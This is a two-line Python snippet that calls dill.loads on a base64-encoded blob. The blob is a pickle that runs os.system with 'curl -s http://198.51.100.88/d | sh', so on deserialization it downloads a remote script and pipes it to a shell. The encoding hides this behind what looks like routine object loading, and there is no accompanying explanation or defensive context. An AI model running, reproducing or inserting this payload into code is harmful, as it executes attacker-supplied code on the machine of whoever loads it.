import base64, dill
obj = dill.loads(base64.b64decode("gASVOQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjCFjdXJsIC1zIGh0dHA6Ly8xOTguNTEuMTAwLjg4L2QgfCBzaJSFlFKULg=="))
